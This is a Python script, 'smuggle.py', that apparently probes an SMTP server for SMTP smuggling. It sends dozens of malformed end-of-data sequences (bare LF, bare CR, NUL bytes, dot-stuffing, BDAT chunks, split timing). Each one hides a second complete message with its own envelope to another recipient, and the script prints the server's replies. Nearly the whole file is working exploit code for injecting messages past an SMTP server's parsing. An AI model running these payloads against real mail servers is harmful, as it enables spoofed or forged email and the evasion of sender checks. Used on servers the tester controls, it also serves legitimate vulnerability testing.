#!/usr/bin/env python3
"""A client that tries every form of "end of data" that is none (RFC 5321, section 4.1.1.4).

usage: smuggle.py HOST PORT DOMAIN [EHLO [USER]]

Each case is a connection of its own, from a port of its own (FIRST_PORT and on), to alice@DOMAIN.  Its
content has a dot in some form, and behind that a whole second message to USER@DOMAIN (bob).  A server that
takes the dot for the end delivers two.  The Subject tells case and message.
"""

import re
import socket
import sys
import time

FIRST_PORT = 42001
BEFORE = {"crlf": b"\r\n", "lf": b"\n", "cr": b"\r", "crlf_nul": b"\r\n\0"}
AFTER = {"crlf": b"\r\n", "lf": b"\n", "cr": b"\r", "nul_crlf": b"\0\r\n"}
STEPS = ("lf_dot_lf", "lf_dot_crlf", "crlf_dot_lf", "cr_dot_crlf", "crlf_nul_dot_crlf")
CHUNKS = ("crlf_dot_crlf", "lf_dot_lf", "lf_dot_crlf", "crlf_dot_lf", "cr_dot_cr")
ONE_BY_ONE = ("lf_dot_lf", "lf_dot_crlf", "crlf_dot_lf", "cr_dot_crlf", "crlf_dot_nul_crlf")


def variants():
    return {f"{before}_dot_{after}": BEFORE[before] + b"." + AFTER[after]
            for before in BEFORE for after in AFTER}


def message(case, which, text):
    return (f"From: {which}@client.example\r\nTo: alice\r\nSubject: {case} {which}\r\n"
            f"Message-ID: <{case}-{which}@client.example>\r\n\r\n{text}").encode()


def envelope(address):
    return (f"MAIL FROM:<second@client.example>\r\n"
            f"RCPT TO:<{address}>\r\n").encode()


def by_data(case, address):
    return envelope(address) + b"DATA\r\n" + message(case, "second", "The second text.")


def by_bdat(case, address):
    content = message(case, "second", "The second text.\r\n")
    return envelope(address) + b"BDAT %d LAST\r\n" % len(content) + content


def by_nothing(_case, _address):
    return b"And so it goes.\r\nOn and on."


def by_reset(_case, address):
    return envelope("nobody" + address[address.index("@"):]) + b"RSET"


def cases():
    """(case, variant or None, way, what stands in for the dot, what follows) in the order of ports.
    Way: what is between the dot and the rest: nothing (at_once), or silence (in_steps), and also
    behind each command (one_by_one).  lf-lines: the message has no CR at all, but for its honest end."""
    for name, dot in variants().items():
        yield name.replace("_", "-"), name, "at_once", dot, by_data
    for name in STEPS:
        yield name.replace("_", "-") + "-steps", name, "in_steps", variants()[name], by_data
    for name in CHUNKS:
        yield name.replace("_", "-") + "-bdat", name, "at_once", variants()[name], by_bdat
    for name in ONE_BY_ONE:
        yield name.replace("_", "-") + "-one-by-one", name, "one_by_one", variants()[name], by_data
    lf = variants()["lf_dot_lf"]
    yield "lf-lines", "lf_dot_lf", "at_once", lf, by_data
    yield "lf-lines-bdat", "lf_dot_lf", "at_once", lf, by_bdat
    yield "lf-lines-one-by-one", "lf_dot_lf", "one_by_one", lf, by_data
    yield "stuffed", None, "at_once", b"\r\n..\r\n", by_data
    yield "stuffed-lf", None, "at_once", b"\n..\n", by_data
    yield "quoted", None, "at_once", b"\r\n\r\n", by_data
    yield "no-verbs", "lf_dot_lf", "at_once", lf, by_nothing
    yield "refused", "lf_dot_lf", "at_once", lf, by_reset


class Client:
    def __init__(self, host, port, own_port):
        self.connection = socket.create_connection((host, port), 10, ("", own_port))

    def reply(self):
        """One reply of any number of lines."""
        text = b""
        while not re.search(rb"(?m)^\d{3}(?: .*)?\r?\n\Z", text):
            piece = self.connection.recv(4096)
            if not piece:
                raise EOFError
            text += piece
        sys.stdout.write(text.decode("latin-1").replace("\r", ""))

    def say(self, text):
        self.connection.sendall(text)

    def ask(self, text):
        self.say(text + b"\r\n")
        self.reply()

    def listen(self, seconds):
        """All that comes until that long nothing came."""
        self.connection.settimeout(seconds)
        try:
            while piece := self.connection.recv(4096):
                sys.stdout.write(piece.decode("latin-1").replace("\r", ""))
        except TimeoutError:
            pass
        self.connection.settimeout(10)


def portions(way, first, second):
    if way == "at_once":
        return [first + second]
    if way == "in_steps":
        return [first, second]
    head, data, content = second.partition(b"DATA\r\n")
    return [first, *head.splitlines(keepends=True), data, content]


def try_case(client, domain, hello, user, case):
    name, _, way, dot, rest = case
    client.reply()
    client.ask(f"{hello} {name}.client.example".encode())
    client.ask(b"MAIL FROM:<first@client.example>")
    client.ask(f"RCPT TO:<alice@{domain}>".encode())
    client.ask(b"DATA")
    first = message(name, "first", "The first text.")
    if name.startswith("lf-lines"):
        first = first.replace(b"\r", b"")
    for portion in portions(way, first + dot, rest(name, f"{user}@{domain}") + b"\r\n.\r\n"):
        client.say(portion)
        client.listen(0.6)
    client.say(b"QUIT\r\n")
    client.listen(3)


def main():
    host, port, domain = sys.argv[1:4]
    hello, user = (sys.argv[4:] + ["EHLO", "bob"][len(sys.argv) - 4:])[:2]
    for number, case in enumerate(cases()):
        print("##", case[0])
        client = Client(host, int(port), FIRST_PORT + number)
        try:
            try_case(client, domain, hello, user, case)
        except (EOFError, OSError) as error:
            print("(over:", error, ")")
        client.connection.close()
        time.sleep(0.05)


if __name__ == "__main__":
    main()
